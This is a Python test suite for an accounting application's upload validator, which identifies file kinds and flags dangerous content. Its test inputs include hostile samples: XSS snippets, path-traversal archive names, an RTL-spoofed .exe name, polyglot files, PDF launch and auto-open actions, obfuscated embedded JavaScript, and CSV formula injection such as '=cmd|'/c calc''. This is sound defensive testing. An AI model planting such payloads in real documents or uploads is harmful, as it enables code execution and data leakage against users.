"""What a file is, by its content: hostile ones are of no kind, and nothing falls over."""

import base64
import io
import time
import zipfile
import zlib

import pytest

from accounting.domain.files import CSV, PARTS_MAX, PDF, XLSX, Danger, danger_of, kind_of


def workbook() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return target.getvalue()


def with_parts(*names: str, types: bytes = b"<Types/>") -> bytes:
    """A workbook with more parts; the first byte is an archive's."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for name in names:
            archive.writestr(name, b"x")
    return target.getvalue()


def pdf_of(part: bytes, more: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + part + b" >>\nendobj\n" + more + b"%%EOF"


def inside(name: bytes) -> bytes:
    """A PDF with a file of this name inside."""
    more = b"6 0 obj << /Type /Filespec /UF " + name + b" /EF << /F 7 0 R >> >> endobj\n"
    more += b"7 0 obj << /Type /EmbeddedFile >> stream\nMZ\nendstream endobj\n"
    return pdf_of(b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", more)


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"0" * 20


def asking_for_a_newer_reader(content: bytes) -> bytes:
    place = content.index(b"PK\x01\x02") + 6
    return content[:place] + bytes([99]) + content[place + 1 :]


def test_a_workbook_is_a_workbook() -> None:
    found = kind_of("measured.xlsx", workbook())
    assert found is not None
    assert found.media_type.endswith("spreadsheetml.sheet")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.xlsx", asking_for_a_newer_reader(workbook())),
        ("a.xlsx", workbook()[:-8]),
        ("a.pdf", workbook()),
        ("a.html", b"<script>alert(1)</script>"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("a.pdf", b"<html>%PDF-1.7</html>"),
        ("a.png", b"\x89PNG\r\n\x1a\n<script>"),
        ("../../a", b""),
        # Two files in one: each program would open another of them.
        ("a.pdf", JPEG + b"%PDF-1.7 1 0 obj << >> endobj %%EOF\xff\xd9"),
        ("a.jpg", JPEG + b"%PDF-1.7 1 0 obj << >> endobj %%EOF\xff\xd9"),
        ("a.jpg", JPEG + b"\xff\xd9" + workbook() + b"\xff\xd9"),
        ("a.pdf", pdf_of(b"") + workbook()),
        ("a.xlsx", b"MZ" + workbook()),
        ("a.pdf", b"MZ" + pdf_of(b"")),
        # A page of a browser by another name, a name that leads out, a part twice.
        ("a.csv", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("a.txt", b"\n <!DOCTYPE html><script>alert(1)</script>"),
        ("a.txt", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
        ("a.xlsx", with_parts("../../etc/passwd")),
        ("a.xlsx", with_parts("xl/../../x")),
        ("a\u202exlsx.exe", workbook()),
        ("a.svg", b"<svg/>"),
    ],
)
def test_a_hostile_file_is_of_no_kind(name: str, content: bytes) -> None:
    assert kind_of(name, content) is None


SCRIPT = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"
HARMLESS = b"1 0 << /Type /Page >>"


def packed(head: bytes, data: bytes) -> bytes:
    """A PDF with one object stream: objects in it are seen by no plain search of the file."""
    return b"%PDF-1.7\n5 0 obj\n<< " + head + b" >>\nstream\n" + data + b"\nendstream\nendobj\n%%EOF"


MANY = [packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b" " * 4_000_000))] * 9


@pytest.mark.parametrize(
    ("content", "danger"),
    [
        (packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SCRIPT)), Danger.RUNS),
        (packed(b"/Filter /FlateDecode /Type /Obj#53tm", zlib.compress(SCRIPT)), Danger.RUNS),
        (packed(b"/Type /ObjStm", SCRIPT), Danger.RUNS),
        (
            packed(
                b"/Filter [/ASCII85Decode /FlateDecode] /Type /ObjStm",
                base64.a85encode(zlib.compress(SCRIPT)) + b"~>",
            ),
            Danger.RUNS,
        ),
        (packed(b"/Type /ObjStm /F#69lter /LZWDecode", b"\x80\x0b\x60\x50"), Danger.RUNS),
        (packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(HARMLESS)), None),
        (packed(b"/Type /ObjStm", HARMLESS), None),
        (packed(b"/Type /XObject /Filter /DCTDecode", b"a picture"), None),
        # What readers forgive: a wrong checksum, a padded dictionary, a carriage return alone.
        (packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SCRIPT)[:-4] + b"0000"), Danger.RUNS),
        (
            packed(b"/Type /ObjStm /Pad (" + b"x" * 2_000 + b")/Filter /FlateDecode", zlib.compress(SCRIPT)),
            Danger.RUNS,
        ),
        (
            packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SCRIPT)).replace(
                b"stream\n", b"stream\r", 1
            ),
            Danger.RUNS,
        ),
        (packed(b"/Type /ObjStm /Pad (" + b"x" * 70_000 + b")", HARMLESS), Danger.RUNS),
        (
            packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(HARMLESS)[:2] + b"\xff" * 20),
            Danger.RUNS,
        ),
        # A script behind more than is looked through, in one stream or in many.
        (
            packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b" " * 5_000_000 + SCRIPT)),
            Danger.RUNS,
        ),
        (
            b"%PDF-1.7\n"
            + b"".join(MANY)
            + packed(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SCRIPT)),
            Danger.RUNS,
        ),
    ],
)
def test_a_script_in_an_object_stream_is_found_or_its_packing_refused(
    content: bytes, danger: Danger | None
) -> None:
    kind = kind_of("report.pdf", content)
    assert kind is not None
    found = danger_of(kind, content)
    assert (found[0] if found else None) == danger


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("a.pdf", pdf_of(b"/AA << /O << /S /URI /URI (http://x) >> >>"), "/AA"),
        ("a.pdf", pdf_of(b"/A#41 8 0 R"), "/AA"),
        ("a.pdf", pdf_of(b"/OpenAction << /S /URI /URI (http://x/) >>"), "/OpenAction /URI"),
        ("a.pdf", pdf_of(b"/OpenAction 8 0 R", b"8 0 obj << /S /URI >> endobj\n"), "/OpenAction /URI"),
        (
            "a.pdf",
            pdf_of(b"/OpenAction [3 0 R /Fit] " * 3 + b"/OpenAction << /S /Hide >>"),
            "/OpenAction /Hide",
        ),
        ("a.pdf", pdf_of(b"/A << /S /GoToR /F (\\\\host\\share) >>"), "/GoToR"),
        ("a.pdf", pdf_of(b"/A << /S /GoToE >>"), "/GoToE"),
        ("a.pdf", pdf_of(b"/A << /S /Launch /F (cmd.exe) >>"), "/Launch"),
        ("a.pdf", pdf_of(b"/Subtype /3D"), "/Subtype /3D"),
        ("a.pdf", pdf_of(b"/AcroForm << /XFA [(x) 5 0 R] >>"), "/XFA"),
        ("a.pdf", pdf_of(b"/AcroForm << /XFA 5 0 R >>"), "/XFA"),
        ("a.pdf", pdf_of(b"/A << /S /Rendition /JS (x) >>"), "/Rendition"),
        ("a.pdf", inside(b"(a.exe)"), "/EmbeddedFile a.exe"),
        ("a.pdf", inside(b"<FEFF0061002E006500780065>"), "/EmbeddedFile a.exe"),
        ("a.pdf", inside(b"9 0 R"), "/EmbeddedFile"),
        ("a.xlsx", with_parts("XL/VBAPROJECT.BIN"), "XL/VBAPROJECT.BIN"),
        ("a.xlsx", with_parts("other\\vbaProject.bin"), "other/vbaProject.bin"),
        ("a.xlsx", with_parts("xl/externalLinks/externalLink1.xml"), "xl/externalLinks/externalLink1.xml"),
        ("a.xlsx", with_parts("xl/connections.xml"), "xl/connections.xml"),
        ("a.xlsx", with_parts("xl/media/inner.zip"), "xl/media/inner.zip"),
        (
            "a.xlsx",
            with_parts(types=b"<x ContentType='ms-excel.sheet.macroEnabled.main+xml'/>"),
            "macroEnabled",
        ),
        ("a.csv", b"a,b\n=cmd|'/c calc'!A0,1\n", "|'/c calc'!"),
        ("a.csv", b'a\n"=HYPERLINK(""http://x?""&A1)"\n', "HYPERLINK"),
        ("a.csv", b"a\n=IF(1,WEBSERVICE(A2),0)\n", "WEBSERVICE"),
    ],
)
def test_what_runs_leads_elsewhere_or_rides_along_is_named(name: str, content: bytes, what: str) -> None:
    kind = kind_of(name, content)
    assert kind is not None
    found = danger_of(kind, content)
    assert found is not None
    assert found[0] is Danger.RUNS
    assert what in found[1]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", pdf_of(b"/OpenAction [3 0 R /Fit]")),
        ("a.pdf", pdf_of(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
        ("a.pdf", pdf_of(b"/OpenAction 8 0 R", b"8 0 obj [3 0 R /XYZ null null 0] endobj\n")),
        ("a.pdf", pdf_of(b"/Font << /AAAAAA+Sun 5 0 R >> /A << /S /URI /URI (http://x) >>")),
        ("a.pdf", inside(b"(invoice.xml)")),
        # Three bytes of a packed image are met by chance.
        ("a.pdf", pdf_of(b"", b"4 0 obj << >> stream\nGb/3D<~ /AA! /JS< /XFA!\nendstream endobj\n")),
        ("a.xlsx", with_parts("xl/worksheets/sheet1.xml", "xl/media/image1.png")),
        ("a.csv", "表号,上期|本期!,温度\n-5,+3,=A1+B1\n".encode()),
        ("a.txt", b"a < b, HYPERLINK(\n"),
    ],
)
def test_what_honest_files_hold_is_taken(name: str, content: bytes) -> None:
    kind = kind_of(name, content)
    assert kind is not None
    assert danger_of(kind, content) is None


def test_a_workbook_of_very_many_parts_bursts_and_hostile_repetition_costs_seconds_at_most() -> None:
    found = danger_of(XLSX, with_parts(*(f"xl/a{n}" for n in range(PARTS_MAX))))
    assert found is not None
    assert found[0] is Danger.BURSTS
    started = time.process_time()
    for part in (b"/OpenAction << ", b"/F (", b"/UF <", b"/OpenAction 8 0 R "):
        content = pdf_of(part * (2_000_000 // len(part)) + b"/EmbeddedFile ")
        assert danger_of(PDF, content) is not None
    for text in (b",-a|", b"=HYPERLINK", b",-" + b"a" * 50 + b"|"):
        danger_of(CSV, text * (2_000_000 // len(text)))
    assert time.process_time() - started < 10
